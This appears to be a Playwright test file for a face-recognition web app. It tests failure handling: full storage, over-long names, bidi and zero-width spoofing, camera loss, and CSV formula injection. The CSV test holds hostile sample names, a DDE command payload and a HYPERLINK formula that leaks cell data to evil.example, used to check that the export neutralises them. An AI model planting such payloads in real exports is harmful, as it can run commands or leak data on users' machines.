import { readFileSync } from 'node:fs';
import { expect, test } from './fixtures';
import type {} from '../test/lab/lab-db';
import { enrollFromFiles, enrollPerson, photo, storedRecords } from './app';
import { makeFakeCameraFile, withCamera } from './camera';
import { HAVE_DATASETS, NO_DATASETS } from './paths';

/**
 * Bad input and failures, through the app as a person meets them: each gets its message and
 * the gallery stays as it was.
 */

test.describe('bad input and failures', () => {
  test.skip(!HAVE_DATASETS, NO_DATASETS);

  test('storage full: a clear message, nothing written, the form kept; it works once there is room', async ({ page }) => {
    await page.goto('/index.html#enroll');
    // Opening the database first, then making every write fail as a full disk does.
    await page.getByRole('link', { name: 'People', exact: true }).click();
    await expect(page.locator('visage-people-view').getByText('Nobody is enrolled yet.')).toBeVisible();
    await page.getByRole('link', { name: 'Enroll', exact: true }).click();
    await page.evaluate(() => {
      const w = window as unknown as { __restore: () => void };
      const { put, add } = IDBObjectStore.prototype;
      const full = function (): never {
        throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
      };
      IDBObjectStore.prototype.put = full;
      IDBObjectStore.prototype.add = full;
      w.__restore = () => Object.assign(IDBObjectStore.prototype, { put, add });
    });
    const view = await enrollFromFiles(page, 'obama', ['knn/train/obama/obama.jpg']);
    await expect(view.getByRole('alert').filter({ hasText: 'storage is full' })).toBeVisible();
    await expect(view.locator('figure')).toHaveCount(1); // the chosen photo is still there
    // The app-wide banner says what to do, and goes once a write succeeds.
    const banner = page.locator('visage-storage-banner [role=alert]');
    await expect(banner).toHaveAttribute('data-problem', 'quota');
    await page.evaluate(() => (window as unknown as { __restore: () => void }).__restore());

    await page.getByRole('link', { name: 'People', exact: true }).click();
    await expect(page.locator('visage-people-view').getByText('Nobody is enrolled yet.')).toBeVisible();
    await page.getByRole('link', { name: 'Enroll', exact: true }).click();
    await enrollPerson(page, 'obama', ['knn/train/obama/obama.jpg']);
    await expect(banner).toHaveCount(0);
  });

  test('an over-long name is refused and nothing is written', async ({ page }) => {
    await page.goto('/index.html#enroll');
    const view = await enrollFromFiles(page, 'x'.repeat(101), ['knn/train/biden/biden.jpg']);
    await expect(view.getByRole('alert').filter({ hasText: 'too long' })).toBeVisible();
    await page.getByRole('link', { name: 'People', exact: true }).click();
    await expect(page.locator('visage-people-view').getByText('Nobody is enrolled yet.')).toBeVisible();
  });

  test('a name that is a spreadsheet formula is exported neutralised through the Log view\'s CSV export', async ({ page }) => {
    const names = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', '+SUM(1,2)', '@A1', '-1+1'];
    await page.goto('/__lab/lab.html');
    await page.waitForFunction(() => document.body.dataset['ready'] === 'true' && !!window.visageDb);
    await page.evaluate(async (names) => {
      const v = window.visageDb;
      const db = await v.openVisageDb('visage');
      for (const [i, name] of names.entries()) {
        const person = await db.enrollPerson(name, [{ embedding: v.fakeEmbedding(i + 1), quality: 0.9, thumbnail: v.fakeThumbnail() }]);
        await db.addLogEntry({ personId: person.id, name: person.name, similarity: 0.8 }, { dedupeMs: 0 });
      }
      db.close();
    }, names);
    await page.goto('/index.html#log');
    const log = page.locator('visage-log-view');
    await expect(log.locator('tr[data-entry]')).toHaveCount(names.length);
    const [download] = await Promise.all([page.waitForEvent('download'), log.getByRole('button', { name: 'Export CSV' }).click()]);
    const csv = readFileSync(await download.path(), 'utf8').replace(/^\uFEFF/, '');
    const nameFields = csv.trim().split('\r\n').slice(1).map((line) => /^[^,]*,[^,]*,("(?:[^"]|"")*"|[^,]*)/.exec(line)?.[1]);
    // Each name quoted, an apostrophe in front: a spreadsheet shows it as text and runs nothing.
    expect(nameFields.sort()).toEqual(names.map((n) => `"'${n.replace(/"/g, '""')}"`).sort());
  });

  test('a name with bidi overrides and zero-width characters is stored and shown without them', async ({ page }) => {
    // U+202E turns the text after it around on screen ("\u202Eamabo" reads "obama"); U+200B and
    // U+2060 are invisible: each lets one name pass for another in a list or a CSV file.
    await page.goto('/index.html#enroll');
    const view = await enrollFromFiles(page, 'bi\u200bden\u2060 \u202Ejr', ['knn/train/biden/biden.jpg']);
    await expect(view.locator('[data-message]')).toContainText('biden jr', { timeout: 30_000 });
    await page.getByRole('link', { name: 'People', exact: true }).click();
    await expect(page.locator('visage-people-view').getByText('biden jr', { exact: true })).toBeVisible();
    const stored = (await storedRecords<{ name: string }>(page, 'people')).map((p) => p.name);
    expect(stored).toEqual(['biden jr']);
  });

  test('no camera: the live view says so and offers a retry', async ({ page, context }) => {
    await context.grantPermissions(['camera']);
    await page.goto('/index.html#live');
    const error = page.locator('visage-live-view [data-testid=camera-error]');
    await expect(error).toHaveAttribute('data-code', 'no-camera', { timeout: 30_000 });
    await expect(error.getByRole('button', { name: 'Try again' })).toBeVisible();
  });

  test('camera unplugged while running: the live view says so, and a retry brings it back', async ({ baseURL }) => {
    const file = await makeFakeCameraFile(photo('two_people.jpg'));
    await withCamera(file, baseURL!, async (page) => {
      await page.goto('/index.html#live');
      const view = page.locator('visage-live-view');
      await expect(view.locator('visage-live-overlay g[data-face]')).toHaveCount(2, { timeout: 60_000 });
      // A fake camera cannot be unplugged: end its track as the browser does when one is.
      await view.evaluate((el) => {
        const video = el.shadowRoot!.querySelector('video')!;
        for (const track of (video.srcObject as MediaStream).getVideoTracks()) {
          track.stop();
          track.dispatchEvent(new Event('ended'));
        }
      });
      const error = view.getByTestId('camera-error');
      await expect(error).toHaveAttribute('data-code', 'ended');
      await error.getByRole('button', { name: 'Try again' }).click();
      await expect(view.locator('visage-live-overlay g[data-face]')).toHaveCount(2, { timeout: 60_000 });
    });
  });
});
